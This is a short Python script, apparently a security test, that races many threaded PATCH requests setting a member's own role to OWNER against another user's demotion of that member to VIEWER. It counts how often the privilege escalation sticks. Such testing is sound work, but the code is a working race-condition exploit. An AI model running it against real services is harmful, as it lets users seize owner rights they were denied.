"""race_demote.py through /v1: X's dashboard token hammers PATCH /v1/members/{X} {"role":"OWNER"} from
T threads on BASE while Y demotes X to VIEWER at the page on BASE2. Usage as race_demote.py."""
import sys, threading, time, requests
import race_owners as R
from race_demote import sql
from lib12 import *
ROUNDS = int(sys.argv[1]) if len(sys.argv) > 1 else 5
T = int(sys.argv[2]) if len(sys.argv) > 2 else 6
hits = 0
for rnd in range(ROUNDS):
    org, sx, sx2, sy, xid, yid = R.setup()
    xe = [e for m, e in members(sx, org)[0] if m == xid][0]
    st, b = v1_login(xe, org, base=R.B1); tok = b["data"]["access_token"]
    stop = threading.Event(); answers = []
    def hammer():
        while not stop.is_set():
            answers.append(requests.patch(R.B1 + f"/v1/members/{xid}", json={"role": "OWNER"}, headers={"authorization": "Bearer " + tok}).status_code)
    th = [threading.Thread(target=hammer) for _ in range(T)]; [t.start() for t in th]
    time.sleep(0.4)
    ry = post(sy, f"/dashboard/orgs/{org}/members/{xid}/role", {"csrf_token": token_of(sy), "role": "VIEWER"})
    time.sleep(0.6); stop.set(); [t.join() for t in th]
    role = sql(f"select role from memberships where organization_id='{org}' and user_id='{xid}'")
    hits += role == ["OWNER"]
    print(f"round {rnd}: Y demotes X -> {ry.status_code} | X's /v1 answers {dict((c, answers.count(c)) for c in set(answers))} | X's role now {role}")
print(f"rounds where X is OWNER again: {hits}/{ROUNDS}")
